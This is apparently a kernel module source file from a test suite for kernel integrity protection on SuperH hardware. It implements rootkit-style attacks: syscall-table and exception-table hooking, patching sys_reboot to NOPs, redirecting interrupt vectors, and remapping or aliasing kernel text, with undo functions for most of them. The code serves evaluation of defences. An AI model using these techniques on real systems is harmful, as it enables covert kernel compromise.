// SPDX-License-Identifier: GPL-2.0
/* Code, and the tables through which the processor and user programs get to it. */
#include <linux/mm.h>
#include <linux/slab.h>
#include <linux/smp.h>
#include <linux/vmalloc.h>
#include <asm/unistd.h>

#include "attack.h"

static int system_call(void)
{
	void **table = symbol("sys_call_table");

	return table ? hook(&table[__NR_kill]) : -ENOENT;
}

/* Two instructions become NOPs; nobody reboots meanwhile. */
static int patch(const char *name)
{
	unsigned long at = (unsigned long)symbol(name) & ~3ul;
	int error = at ? poke((void *)at, 0x00090009) : -ENOENT;

	if (!error)
		instructions_changed((void *)at, 4);
	return error;
}

static int patch_kernel(void)
{
	return patch("sys_reboot");
}

static int patch_module(void)
{
	return patch("bystander_example");
}

/* Entry EXPEVT 0x180, an illegal instruction. */
static int exception_table(void)
{
	void **table = symbol("exception_handling_table");

	return table ? hook(&table[0x180 >> 5]) : -ENOENT;
}

static void load_vbr(void *base)
{
	asm volatile("ldc %0, vbr" : : "r"(base) : "memory");
}

/* On SPUMONE the register is not the kernel's: there it is told where its vectors are. */
static void set_vbr(void *base)
{
	bool (*tell)(void *) = symbol_if_any("spumone_set_vbr");

	if (tell)
		tell(base);
	else
		load_vbr(base);
}

/* The CPU whose vectors are ours, and its register before. */
static int vectors_of;
static char *vbr;

/* Vectors of our own, each of which goes on where `before` has it. R0 of the bank that is switched to is free there. */
static int lead_vectors(char *before, void (*set)(void *))
{
	static const unsigned short entries[] = { 0x100, 0x400, 0x600 };
	char *own = scratch(4096);
	unsigned int i;

	if (!before || !own)
		return -ENOMEM;
	for (i = 0; i < ARRAY_SIZE(entries); i++) {
		void *code = forward(before + entries[i]);

		if (!code)
			return -ENOMEM;
		memcpy(own + entries[i], code, 12);
	}
	instructions_changed(own, 4096);
	vectors_of = get_cpu();
	set(own);
	put_cpu();
	return 0;
}

static int vectors(void)
{
	return lead_vectors(symbol("vbr_base"), set_vbr);
}

static void kernel_vectors(void)
{
	smp_call_function_single(vectors_of, set_vbr, symbol("vbr_base"), 1);
}

/* The register itself, whosever vectors it leads to; they are the same on every CPU. */
static int vbr_register(void)
{
	asm volatile("stc vbr, %0" : "=r"(vbr));
	return lead_vectors(vbr, load_vbr);
}

static void vbr_before(void)
{
	smp_call_function_single(vectors_of, load_vbr, vbr, 1);
	kernel_vectors();
}

static pte_t *entry_of(unsigned long at)
{
	pgd_t *directory = symbol("swapper_pg_dir");

	return directory ? pte_offset_kernel(pmd_offset(pud_offset(p4d_offset(directory + pgd_index(at), at), at), at), at) : NULL;
}

static void *page;
static pte_t *changed, before;

/* Of every CPU: timers of `bystander` run on any, and would go on in a page that has been freed. */
static void flush_translations(void)
{
	void (*flush)(void) = symbol_if_any("flush_tlb_all") ?: symbol("local_flush_tlb_all");

	if (flush)
		flush();
}

/* A page of the module `bystander` leads to a copy of it in which one instruction differs. */
static int remap(void)
{
	unsigned long at = (unsigned long)symbol("bystander_example");

	page = (void *)__get_free_page(GFP_KERNEL);
	changed = at ? entry_of(at) : NULL;
	if (!page || !changed)
		return -ENOMEM;
	memcpy(page, (void *)(at & PAGE_MASK), PAGE_SIZE);
	*(u16 *)(page + (at & ~PAGE_MASK)) = 0x0009;
	instructions_changed(page, PAGE_SIZE);
	before = *changed;
	set_pte(changed, pfn_pte(__pa(page) >> PAGE_SHIFT, PAGE_KERNEL));
	flush_translations();
	return 0;
}

static void map_back(void)
{
	if (changed && page) {
		set_pte(changed, before);
		flush_translations();
	}
	free_page((unsigned long)page);
	page = NULL;
	changed = NULL;
}

static void *alias;

/* The kernel's text at a second address, where nothing guards it. */
static int map_text(void)
{
	void *text = symbol("sys_reboot");
	struct page *pages[] = { text ? virt_to_page(text) : NULL };

	alias = text ? vmap(pages, 1, VM_MAP, PAGE_KERNEL) : NULL;
	return alias ? 0 : -ENOMEM;
}

static void unmap_text(void)
{
	vunmap(alias);
	alias = NULL;
}

const struct attack code_attacks[] = {
	{ "syscall-table", system_call },
	{ "text-patch", patch_kernel },
	{ "module-patch", patch_module },
	{ "exception-table", exception_table },
	{ "vbr", vectors, kernel_vectors },
	{ "vbr-register", vbr_register, vbr_before },
	{ "page-remap", remap, map_back },
	{ "text-alias", map_text, unmap_text },
	{ },
};
